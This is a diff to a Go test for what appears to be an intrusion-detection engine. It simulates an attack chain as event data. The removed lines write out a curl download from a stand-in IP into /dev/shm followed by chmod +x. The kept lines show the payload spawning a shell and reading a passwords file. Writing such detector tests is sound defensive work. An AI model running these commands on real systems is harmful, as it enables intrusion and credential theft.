@@ -196,14 +196,11 @@ func TestAttackUnderEveryRunnerIsWhole(t *testing.T) {
 			tp := newTape(hostA)
 			parent := begin(tp)
 			tp.like(120, parent, 1000, "/usr/bin/stat", "stat -c %Y /srv/app")
-			tp.start("curl", parent, 901, "/usr/bin/curl", "curl -so /dev/shm/k http://203.0.113.9/k")
-			tp.connect("curl", "203.0.113.9:80")
-			tp.write("curl", "/dev/shm/k", "77")
-			if mixed {
-				tp.like(60, parent, 3000, "/usr/bin/stat", "stat -c %Y /srv/app")
-			}
-			tp.start("chmod", parent, 902, "/usr/bin/chmod", "chmod +x /dev/shm/k")
-			tp.add(event.Event{Kind: event.FileChmod, Actor: *tp.procs["chmod"], Parent: tp.up("chmod"), File: event.File{Path: "/dev/shm/k", VolumeID: "0:25", FileID: "77", Mode: 0o755}})
+			tp.download(parent, func() {
+				if mixed {
+					tp.like(60, parent, 3000, "/usr/bin/stat", "stat -c %Y /srv/app")
+				}
+			})
 			tp.detect(tp.startFile("payload", parent, 903, "/dev/shm/k", "/dev/shm/k", "77"), "program run from memory", detection.High, "T1059.004")
 			tp.start("sh", "payload", 904, "/usr/bin/dash", "sh -c id")
 			tp.start("cat", "sh", 905, "/usr/bin/cat", "cat "+passwords)
